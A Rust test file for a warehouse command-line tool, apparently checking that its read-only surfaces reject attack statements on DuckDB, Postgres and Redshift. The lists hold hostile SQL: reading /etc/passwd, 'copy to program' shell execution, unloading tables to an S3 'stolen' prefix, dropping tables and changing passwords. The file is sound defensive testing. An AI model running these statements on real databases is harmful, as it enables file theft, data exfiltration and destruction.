//! Attacks on the surfaces that are documented as read-only: statements that try to write, to read
//! files, or to change the session, on each surface and each engine. The folder is compared before
//! and after.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use sparkify_warehouse::Access;

use crate::support::{
    Ended, duckdb, event, loaded, open, profile, put, rows, run, run_shell, song, walk,
};

/// Statements that `DuckDB` must not run. `W` is the warehouse file.
const DUCKDB: &[&str] = &[
    "copy (select 1) to 'W' (format csv, use_tmp_file false)",
    "copy (select 1) to 'W.wal' (format csv, use_tmp_file false)",
    "copy (select 1) to 'W.wal.checkpoint' (format csv, use_tmp_file false)",
    "copy (select 1) to 'W.wal.recovery' (format csv, use_tmp_file false)",
    "copy (select 1) to 'W.tmp/x' (format csv, use_tmp_file false)",
    "copy (select 1) to 'out.csv'",
    "copy songplays from 'out.csv'",
    "select 1; copy (select 1) to 'W' (format csv, use_tmp_file false)",
    "explain analyze copy (select 1) to 'out.csv'",
    "export database 'out'",
    "import database 'out'",
    "attach 'out.duckdb'",
    "attach 'W' as again (read_write)",
    "detach sparkify",
    "install httpfs",
    "load httpfs",
    "set memory_limit = '90GB'",
    "pragma enable_logging",
    "pragma database_size",
    "call enable_logging(storage = 'file', storage_path = 'logs')",
    "select * from enable_logging(storage = 'file', storage_path = 'logs')",
    "from enable_profiling(format = 'json', save_location = 'profile.json')",
    "from force_checkpoint()",
    "from query('copy (select 1) to ''out.csv''')",
    "from read_text('secret.txt')",
    "select * from read_blob('/etc/passwd')",
    "from 'secret.csv'",
    "from glob('*')",
    "select content from read_csv('secret.csv')",
    "delete from songplays",
    "create table mine as select 1",
    "create temp table mine as select 1",
    "create macro m() as table select 1",
    "create secret s (type s3)",
    "prepare p as select 1",
    "vacuum",
    "checkpoint",
    "begin",
    "use sparkify",
    "drop table songplays",
    "update users set first_name = 'HACKED'",
];

/// Contents of every file below a folder.
fn tree(folder: &Path) -> BTreeMap<PathBuf, Vec<u8>> {
    walk(folder).into_iter().map(|path| (path.clone(), std::fs::read(path).unwrap())).collect()
}

/// A way to run a statement: its name, and a function that runs it in a folder.
type Surface = (&'static str, fn(&Path, &[&str], &str) -> Ended);

const SURFACES: &[Surface] = &[
    ("query", |folder, url, statement| run(folder, ["query", statement].iter().chain(url))),
    ("query --file", |folder, url, statement| {
        put(folder, "statement.sql", statement);
        run(folder, ["query", "--file", "statement.sql"].iter().chain(url))
    }),
    ("query --allow-files", |folder, url, statement| {
        run(folder, ["query", "--allow-files", statement].iter().chain(url))
    }),
    ("shell", |folder, url, statement| run_shell(folder, url, statement)),
    ("verify", |folder, url, statement| {
        put(folder, "profile.toml", profile(statement));
        run(folder, ["verify", "--profile", "profile.toml"].iter().chain(url))
    }),
];

/// Files that the test itself writes.
const OWN_FILES: [&str; 2] = ["statement.sql", "profile.toml"];

#[test]
fn no_surface_of_duckdb_writes_or_reaches_further() {
    let folder = loaded();
    let here = folder.path();
    put(here, "secret.txt", "secret");
    put(here, "secret.csv", "content\nsecret\n");
    for name in OWN_FILES {
        put(here, name, "");
    }
    let contents = |here: &Path| {
        let mut tree = tree(here);
        tree.retain(|path, _| OWN_FILES.iter().all(|name| !path.ends_with(name)));
        tree
    };
    let before = contents(here);
    for (surface, attack) in SURFACES {
        for statement in DUCKDB {
            let statement = statement.replace('W', "sparkify.duckdb");
            let ended = attack(here, &[], &statement);
            let reads = [" read_", "glob", "from 'secret"].iter().any(|it| statement.contains(it));
            if *surface == "query --allow-files" && reads {
                assert_eq!(ended.code, Some(0), "{surface}: {statement}: {ended:#?}");
                continue;
            }
            let error = ended.bad(2);
            assert!(error.contains("error: "), "{surface}: {statement}: {error}");
            assert!(!error.contains("root:"), "{surface}: {statement}: {error}");
        }
        assert!(contents(here) == before, "{surface} changed a file");
    }
    println!("{} surfaces x {} statements on DuckDB", SURFACES.len(), DUCKDB.len());
}

/// Statements that no server may run. `W` is a file of the server.
const SERVERS: &[&str] = &[
    "delete from songplays",
    "insert into users (user_id) values (666)",
    "update users set first_name = 'HACKED'",
    "drop table songplays",
    "truncate songplays",
    "alter table users add column mine integer",
    "create table mine as select 1 as one",
    "create temp table mine as select 1 as one",
    "create schema mine",
    "create view mine as select 1 as one",
    "select 1 as one into mine",
    "select 1; delete from songplays",
    "select 1; commit; delete from songplays",
    "explain analyze delete from songplays",
    "begin",
    "commit",
    "set search_path to mine",
    "set transaction read write",
    "grant all on songplays to public",
    "lock table songplays",
    "call nothing()",
    "prepare p as delete from songplays",
    "comment on table songplays is 'HACKED'",
    "vacuum",
    "analyze",
];

const POSTGRES: &[&str] = &[
    "copy (select 1) to 'W'",
    "copy (select 1) to program 'touch W'",
    "copy users from program 'echo 1'",
    "do $$ begin delete from songplays; end $$",
    "with gone as (delete from songplays returning user_id) select * from gone",
    "select pg_read_file('/etc/passwd')",
    "select * from pg_ls_dir('/')",
    "select lo_export(lo_import('/etc/passwd'), 'W')",
    "select set_config('transaction_read_only', 'off', true)",
    "select query_to_xml('delete from songplays', true, true, '')",
    "select nextval('mine')",
    "create extension dblink",
    "listen mine",
];

const REDSHIFT: &[&str] = &[
    "unload ('select * from users') to 's3://bucket/stolen/' iam_role 'arn:aws:iam::000000000000:role/reader'",
    "copy users from 's3://bucket/mine' iam_role 'arn:aws:iam::000000000000:role/reader' format json 'auto'",
    "create external schema mine from data catalog database 'mine' iam_role default",
    "create or replace function mine() returns integer immutable as $$ select 1 $$ language sql",
    "merge into users using users as other on users.user_id = other.user_id remove duplicates",
    "alter user awsuser password 'Hacked-1'",
];

/// Columns of all tables, and the contents of some of them.
fn state(url: &str) -> Vec<Vec<String>> {
    let mut warehouse = open(url, Access::Read).unwrap();
    let columns = warehouse.found_columns().unwrap();
    let mut state: Vec<_> =
        columns.into_iter().map(|it| vec![it.table, it.name, it.data_type]).collect();
    state.sort();
    state.extend(rows(warehouse.as_mut(), "users", &["user_id", "first_name", "level"]));
    state.extend(rows(warehouse.as_mut(), "songplays", &["songplay_id"]));
    state.extend(rows(warehouse.as_mut(), "etl_loads", &["load_id", "outcome"]));
    state
}

/// Tries `statements` on each surface of the server at `url`, and compares its tables.
fn attack_server(url: &str, statements: &[&str]) {
    let folder = tempfile::tempdir().unwrap();
    let here = folder.path();
    put(here, "song_data/a.json", song("SO1", "One", 200.5));
    put(here, "log_data/e.json", event(1, 0, 1_541_376_000_796, "NextSong", "One"));
    let etl = ["etl", "--song-data", "song_data", "--log-data", "log_data", "--warehouse", url];
    run(here, etl).good();
    let target = here.join("stolen");
    let before = state(url);
    for (surface, attack) in SURFACES {
        for statement in SERVERS.iter().chain(statements) {
            let statement = statement.replace('W', target.to_str().unwrap());
            let ended = attack(here, &["--warehouse", url], &statement);
            assert_ne!(ended.code, Some(0), "{surface}: {statement}: {ended:#?}");
            let shown = format!("{}{}", ended.out, ended.err);
            assert!(shown.contains("error: "), "{surface}: {statement}: {shown}");
            assert!(!shown.contains("root:"), "{surface}: {statement}: {shown}");
            assert!(!shown.contains("panicked"), "{surface}: {statement}: {shown}");
        }
        assert_eq!(state(url), before, "{surface} changed the warehouse");
    }
    assert!(!target.exists());
    println!("{} surfaces x {} statements", SURFACES.len(), SERVERS.len() + statements.len());
}

/// As a superuser, whom the server would let write files and run programs.
#[cfg(feature = "postgres")]
#[test]
fn no_surface_of_postgres_writes_or_reaches_further() {
    attack_server(&crate::servers::Database::new().url(), POSTGRES);
}

#[cfg(feature = "redshift")]
#[test]
fn no_surface_of_redshift_writes_or_reaches_further() {
    let cluster = crate::redshift::Cluster::start();
    cluster.configure();
    attack_server(&cluster.url(), REDSHIFT);
    assert!(cluster.store.keys("bucket").iter().all(|key| !key.starts_with("stolen")));
}

/// A function that ends its process must not end `sparkify shell`.
#[test]
fn a_statement_that_needs_too_much_memory_ends_alone() {
    let folder = loaded();
    let text = "select length(printf('%2000000000d', 1));\n";
    let error = run_shell(folder.path(), &["--memory", "64MB"], text).bad(2);
    assert!(error.to_lowercase().contains("memory"), "{error}");
}

/// A view with the name of a table must not read files of the user who opens the warehouse.
#[test]
fn a_hostile_warehouse_reads_no_file() {
    let folder = loaded();
    let here = folder.path();
    put(here, "secret.txt", "the secret text");
    {
        let mut warehouse = duckdb(here.join("sparkify.duckdb").to_str().unwrap());
        for statement in [
            "alter table songplays rename to kept",
            "create view songplays as select k.* replace (t.content as song_title) from kept k, read_text('secret.txt') t",
            "create view harmless as select content from read_text('secret.txt')",
        ] {
            warehouse.execute(statement).unwrap();
        }
    }
    std::fs::copy(here.join("sparkify.duckdb"), here.join("other.duckdb")).unwrap();
    for arguments in [
        &["report"][..],
        &["query", "top_songs"],
        &["query", "select * from songplays"],
        &["query", "select * from harmless"],
        &["diff", "duckdb:sparkify.duckdb", "duckdb:other.duckdb"],
        &["export", "out"],
        &["check"],
        &["verify"],
        &["docs"],
        &["trace", "--session", "1", "--item", "1"],
        &["describe"],
        &["history"],
    ] {
        let ended = run(here, arguments);
        let shown = format!("{}{}", ended.out, ended.err);
        assert!(!shown.contains("secret text"), "{arguments:?}: {shown}");
        assert!(!ended.err.contains("panicked"), "{arguments:?}: {shown}");
    }
    for path in walk(here).into_iter().filter(|path| !path.ends_with("secret.txt")) {
        let bytes = std::fs::read(&path).unwrap();
        assert!(memchr::memmem::find(&bytes, b"the secret text").is_none(), "{}", path.display());
    }
}

/// Every saved query passes the guard, which knows them as a user's statements in `shell`.
#[test]
fn the_guard_accepts_what_analysts_write() {
    let folder = loaded();
    let here = folder.path();
    let mut warehouse = duckdb(here.join("sparkify.duckdb").to_str().unwrap());
    drop(warehouse.query("select 1", &[], 1).unwrap());
    drop(warehouse);
    let mut warehouse =
        open(&format!("duckdb:{}", here.join("sparkify.duckdb").display()), Access::Guarded)
            .unwrap();
    for statement in [
        "from songplays",
        "summarize songplays",
        "describe songplays",
        "show tables",
        "explain select * from songplays",
        "explain analyze select count(*) from songplays",
        "values (1)",
        "with n as (select 1 as one) select * from n",
        "select * from (pivot songplays on level in ('free', 'paid') using count(*))",
        "select * from duckdb_tables()",
        "select unnest([1, 2, 3]), * from range(2)",
        "select quantile_cont(item_in_session, 0.5) over () from songplays qualify row_number() over () = 1",
    ] {
        let answer = warehouse.query(statement, &[], 1);
        assert!(answer.is_ok(), "{statement}: {:?}", answer.err());
    }
}
